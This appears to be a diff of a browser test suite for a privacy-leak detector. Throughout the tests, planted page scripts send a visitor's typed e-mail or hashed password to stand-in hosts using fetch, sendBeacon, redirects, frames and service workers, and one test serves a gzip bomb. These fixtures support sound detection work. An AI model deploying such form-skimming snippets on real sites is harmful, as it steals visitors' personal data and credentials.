@@ -1,77 +1,23 @@
-// What a visitor types is found wherever it leaves, however it is dressed and carried, in a real Chromium. Each sender first
-// sends a word of its own instead, on the same page, and nothing is found.
+// What a visitor types is found wherever it leaves, however it is dressed and carried, in a real Chromium. Every sender's clean
+// twin comes first: see `lib/senders.mjs`.
 import assert from "node:assert/strict";
 import { afterEach, beforeEach, test } from "node:test";
 import { brotliCompressSync, gzipSync } from "node:zlib";
 import { fillIn, pressSend, stageIntake } from "../clinic/intake.mjs";
 import { visitor } from "../clinic/persona.mjs";
 import { address, hosts } from "../clinic/site.mjs";
-import { find } from "./lib/decode.mjs";
+import { EMAIL, WORD, base64, check, freshPath, isKind, onChange, onSend, post, proofs, proven, sha256 } from "./lib/senders.mjs";
 import { stage } from "./lib/stage.mjs";
 import { Watched } from "./lib/watched.mjs";
 
 const it = stage();
 /** @type {Watched} */
 let watched;
-let n = 0;
 
 beforeEach(async () => {
   watched = await Watched.open(it.browser, address("home", "clean"));
 });
 afterEach(() => watched.close());
-
-/** What a sender sends before anybody has typed, by an expression of the page's. */
-const WORD = `"nothing-to-tell"`;
-const EMAIL = `document.querySelector("#email").value`;
-const post = (host, body, more = "") => `fetch("https://${host}/in", { method: "POST", mode: "no-cors", ${more} body: ${body} })`;
-const onSend = (code) => `document.querySelector("#intake").addEventListener("submit", async () => { ${code} });`;
-const onChange = (code) => `document.querySelector("#email").addEventListener("change", async () => { ${code} });`;
-
-/** Findings that rest on a value that is known. */
-const proven = (view, host) => {
-  const ids = new Set(view.recipients.filter((r) => r.hosts.includes(host)).map((r) => r.recipient.id));
-  return view.findings.filter((f) => ids.has(f.recipient?.id) && f.evidence.some((e) => e.known));
-};
-const proofs = (view, host) => proven(view, host).flatMap((f) => f.evidence.filter((e) => e.known).map((e) => ({ ...e, finding: f })));
-const isKind = (f) => ["form-value-leak", "identifier-to-third-party", "hashed-identity"].includes(f.kind);
-
-/**
- * Runs a sender on the form, sending its own word, then what was typed.
- * @param {{ name: string, host: string, script: (say: string) => string, leave?: (page: any) => Promise<any>, steps?: RegExp,
- *   at?: RegExp, arrived?: (r: any, value: string) => boolean }} sender `leave`: what the visitor does last; `steps`: what was
- *   done to the value; `at`: where it was found
- */
-async function check({ name, host, script, leave = pressSend, steps = /^$/, at = /./, arrived }) {
-  const { sink } = it;
-  const { page } = watched;
-  const run = async (say) => {
-    n += 1;
-    const mark = sink.requests.length;
-    await page.goto(stageIntake(sink, `/p/4${n}`, `<script>${script(say)}</script>`), { waitUntil: "load" });
-    await fillIn(page);
-    await leave(page);
-    const value = say === WORD ? JSON.parse(WORD) : visitor.email;
-    await sink.until((r) => (r.host === host && r.method !== "OPTIONS" && (arrived ? arrived(r, value) : find(r, value).length > 0)),
-      { mark, what: `${name}: ${value} at ${host}` });
-  };
-  await run(WORD);
-  const read = (v) => v.recipients.find((r) => r.hosts.includes(host))?.requests ?? 0;
-  const clean = await watched.untilView((v) => read(v) > 0, `${name}: the clean request to be read`);
-  assert.deepEqual(proven(clean, host).map((f) => f.said), [], `${name}: clean twin`);
-
-  await run(EMAIL);
-  const view = await watched.untilView((v) => proven(v, host).some(isKind), `${name}: what was typed, found at ${host}`);
-  const proof = proofs(view, host).find((e) => isKind(e.finding));
-  assert.match(proof.known.value, /e-mail/i, name);
-  assert.match(proof.known.steps.join(" → "), steps, name);
-  assert.match(proof.at, at, name);
-  assert.ok(!JSON.stringify(proof.known).includes(visitor.email), `${name}: the value is masked`);
-  return view;
-}
-
-const base64 = (say) => `btoa(${say})`;
-const hex = (bytes) => `[...new Uint8Array(${bytes})].map((b) => b.toString(16).padStart(2, "0")).join("")`;
-const sha256 = (say) => hex(`await crypto.subtle.digest("SHA-256", new TextEncoder().encode((${say}).trim().toLowerCase()))`);
 
 const senders = [
   { name: "a JSON body", host: "json-sender.example", script: (say) => onSend(post("json-sender.example", `JSON.stringify({ form: { e: ${say} } })`)), at: /^(body|json)/ },
@@ -103,11 +49,6 @@ const senders = [
     leave: (page) => page.goto(address("home", "clean"), { waitUntil: "load" }),
   },
   {
-    name: "a Blob's beacon on pagehide", host: "blob-sender.example",
-    script: (say) => `addEventListener("pagehide", () => navigator.sendBeacon("https://blob-sender.example/in", new Blob([JSON.stringify({ e: ${say} })], { type: "text/plain" })));`,
-    leave: (page) => page.goto(address("home", "clean"), { waitUntil: "load" }),
-  },
-  {
     name: "a redirect that carries it on", host: "second-hop.example", steps: /base64/,
     script: (say) => onChange(`new Image().src = "https://first-hop.example/r?u=" + encodeURIComponent(${base64(say)})`),
   },
@@ -116,14 +57,28 @@ const senders = [
 for (const sender of senders) {
   test(`typed, and sent by ${sender.name}`, async () => {
     it.sink.staged.set("first-hop.example/r", (r) => ({ status: 302, headers: { location: `https://second-hop.example/in${r.url.search}` } }));
-    await check(sender);
+    await check(it, watched, sender);
   });
 }
+
+test("a Blob's beacon while the page goes away: found, or said that it was not read", async () => {
+  const host = "blob-sender.example";
+  const { page } = watched;
+  const mark = it.sink.requests.length;
+  await page.goto(stageIntake(it.sink, freshPath(), `<script>addEventListener("pagehide", () =>
+    navigator.sendBeacon("https://${host}/in", new Blob([JSON.stringify({ e: ${EMAIL} })], { type: "text/plain" })));</script>`), { waitUntil: "load" });
+  await fillIn(page);
+  await page.goto(address("home", "clean"), { waitUntil: "load" });
+  await it.sink.until((r) => r.host === host && r.body.includes(visitor.email), { mark });
+  const answers = (v) => proven(v, host).some(isKind) || v.findings.some((f) => f.kind === "unknown-or-unreadable" && f.recipient.host === host);
+  const view = await watched.untilView(answers, "found or counted");
+  if (!proven(view, host).some(isKind)) assert.ok(view.summary.unread > 0, "counted");
+});
 
 test("brotli, which only the second module takes apart", async () => {
   it.sink.staged.set(`${hosts.www}/p/pack`, (r) => ({ type: "application/octet-stream", body: brotliCompressSync(r.body) }));
   const host = "brotli-sender.example";
-  await check({
+  await check(it, watched, {
     name: "brotli", host, steps: /brotli/, arrived: (r) => r.method === "POST" && r.body.length > 0,
     script: (say) => onChange(`const packed = await (await fetch("/p/pack", { method: "POST", body: JSON.stringify({ e: ${say} }) })).arrayBuffer();
       fetch("https://${host}/in", { method: "POST", headers: { "content-type": "application/json", "content-encoding": "br" }, body: packed })`),
@@ -137,8 +92,7 @@ test("a third party's frame that is handed it", async () => {
   });
   const { page } = watched;
   const run = async (say) => {
-    n += 1;
-    await page.goto(stageIntake(it.sink, `/p/4${n}`, `<iframe src="https://${host}/frame"></iframe>
+    await page.goto(stageIntake(it.sink, freshPath(), `<iframe src="https://${host}/frame"></iframe>
       <script>window.got = new Promise((done) => addEventListener("message", ({ data }) => data === "got it" && done(true)));
       ${onChange(`frames[0].postMessage({ e: ${say} }, "*")`)}</script>`), { waitUntil: "load" });
     await fillIn(page);
@@ -158,7 +112,7 @@ test("the site's own service worker, whose requests belong to no tab", async () 
     body: `addEventListener("activate", (event) => event.waitUntil(clients.claim()));
       addEventListener("message", (event) => event.waitUntil(${post(host, "JSON.stringify({ e: event.data })")}));`,
   });
-  await check({
+  await check(it, watched, {
     name: "a service worker", host,
     script: (say) => `const ready = navigator.serviceWorker.register("/p/sw.js").then(() => navigator.serviceWorker.ready);
       ${onChange(`(await ready).active.postMessage(${say})`)}`,
@@ -169,8 +123,7 @@ test("the site's own service worker, whose requests belong to no tab", async () 
 test("typed, the worker ended, then sent: what was typed is remembered", async () => {
   const host = "later-sender.example";
   const { page } = watched;
-  n += 1;
-  await page.goto(stageIntake(it.sink, `/p/4${n}`, `<script>${onSend(post(host, `${sha256(EMAIL)} + "." + document.querySelector("#reason").value`))}</script>`), { waitUntil: "load" });
+  await page.goto(stageIntake(it.sink, freshPath(), `<script>${onSend(post(host, `${sha256(EMAIL)} + "." + document.querySelector("#reason").value`))}</script>`), { waitUntil: "load" });
   await fillIn(page);
   await watched.untilView((v) => v.known.some((k) => /e-mail/i.test(k.what)), "the typed value to be known");
   assert.deepEqual(proven(await watched.view(), host), [], "nothing left yet");
@@ -187,8 +140,7 @@ test("a password is known by its digests alone, and is in nothing that is kept",
   const host = "password-sender.example";
   const { page } = watched;
   const secret = visitor.password;
-  n += 1;
-  await page.goto(stageIntake(it.sink, `/p/4${n}`, `<form><label>Password<input type="password" id="password"></label></form>
+  await page.goto(stageIntake(it.sink, freshPath(), `<form><label>Password<input type="password" id="password"></label></form>
     <script>document.querySelector("#password").addEventListener("change", async ({ target }) => { ${post(host, sha256("target.value"))} });</script>`), { waitUntil: "load" });
   await page.type("#password", secret);
   await watched.untilView((v) => v.known.some((k) => /password/i.test(k.what)), "the password to be known");
@@ -203,7 +155,7 @@ test("a password is known by its digests alone, and is in nothing that is kept",
 test("bad input from a page: a bomb, deep JSON, a million parameters; the next leak is found", async () => {
   const host = "after-sender.example";
   it.sink.staged.set(`${hosts.www}/p/bomb`, { type: "application/octet-stream", body: gzipSync(Buffer.alloc(200 << 20), { level: 9 }) });
-  await check({
+  await check(it, watched, {
     name: "after a bomb", host, arrived: (r, value) => r.path === "/in" && r.body.includes(value),
     script: (say) => onChange(`const bomb = await (await fetch("/p/bomb")).arrayBuffer();
       const quiet = (body) => fetch("https://${host}/bad", { method: "POST", mode: "no-cors", body }).catch(() => {});
